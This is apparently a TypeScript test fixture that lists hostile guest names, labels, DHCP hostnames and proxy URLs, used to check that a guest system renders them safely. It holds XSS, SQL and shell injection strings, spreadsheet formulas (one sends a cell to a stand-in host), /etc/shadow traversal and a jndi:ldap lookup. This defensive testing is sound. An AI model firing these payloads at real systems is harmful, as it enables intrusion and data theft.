/**
 * Text as guests and their devices choose it: everything here must come out of lists, forms, exports and logs as
 * plain text. No NUL character, which PostgreSQL refuses.
 */

/** Names that can break a page, as a guest may type them. The long ones have exactly 200 characters. */
export const HOSTILE_NAMES: readonly string[] = [
  `<script>window.__canary='name'</script>`,
  `<img src=x onerror="window.__canary='img'">`,
  `"><svg/onload=window.__canary='svg'>`,
  `javascript:window.__canary='url'`,
  `{{constructor.constructor('window.__canary=1')()}}`,
  '${7*7}#{7*7}<%= 7*7 %>',
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://canary.example/?x="&A1,"Cliquer")`,
  '+1+1',
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '\t=1+1',
  `Robert'); DROP TABLE identity;--`,
  `O'"Neill \\ % _ ;`,
  'Anne\u202egpj.exe',
  '\u200fمرحبا\u200e Left',
  '👩‍👩‍👧‍👦 Famille 🏳️‍🌈 🇫🇷',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  'A'.repeat(200),
  'é'.repeat(199) + 'X',
  'mot '.repeat(50),
  '../../../etc/passwd',
  '%00%0d%0aSet-Cookie: canary=1',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  'true',
  '0',
  '\u00a0',
  'deux\u200bespaces nuls',
  '“guillemets” «français» „deutsch“ `code`',
  'Ligne 1\nLigne 2\r\nLigne 3\u0007\u001b[31m',
  'ﷺ﷽',
  '\uFEFFmarque',
  'İstanbul ıI ſtraße ǅ',
];

/** What an administrator may call a record: markup, formulas, right-to-left, no space to break at, as long as it may be. */
export const HOSTILE_LABELS: readonly string[] = [
  `Reims « L’Étoile » <b>& Spa</b>`,
  `<img src=x onerror="window.__canary='label'">`,
  `=HYPERLINK("https://canary.example/","VIP") <i>gala</i>`,
  'فندق الواحة – الطابق الثاني',
  '漢字かな交じりの空白のない非常に長い名前'.repeat(6),
  'Donaudampfschifffahrtsgesellschaftskapitän'.repeat(6),
  'Nom de trois lignes '.repeat(12).trim(),
  '👩‍👩‍👧‍👦 Salle des familles 🇫🇷',
];

/** What a device may call itself over DHCP, which checks nothing. */
export const HOSTILE_HOSTNAMES: readonly string[] = [
  `<script>window.__canary='host'</script>`,
  `"><img src=x onerror=window.__canary='host2'>`,
  `=cmd|'/C calc'!A1`,
  '$(reboot)',
  '`id`',
  `'; DROP TABLE device; --`,
  '../../../../etc/shadow',
  'iPhone de Élodie 💕',
  'DESKTOP\u202e4321',
  'a'.repeat(200),
  'printer\u0007\u001b[2J',
  '%s%s%s%n',
  'localhost',
  '-rf',
  '\u00a0',
  'ESP_\tTAB',
];

/** What a browser may ask a proxy for. */
export const HOSTILE_REQUESTS: readonly string[] = [
  `http://canary.example/?q=<script>window.__canary='log'</script>`,
  `http://canary.example/=cmd|'/C calc'!A0`,
  'http://canary.example/%00%ff%fe?\u202etxt.exe',
  `http://canary.example/'; DROP TABLE access_log; --`,
  'http://canary.example/${jndi:ldap://canary.example/a}',
  'javascript:window.__canary=1',
  `http://canary.example/${'a/'.repeat(900)}`,
  'CONNECT [2001:db8::1]:443',
];
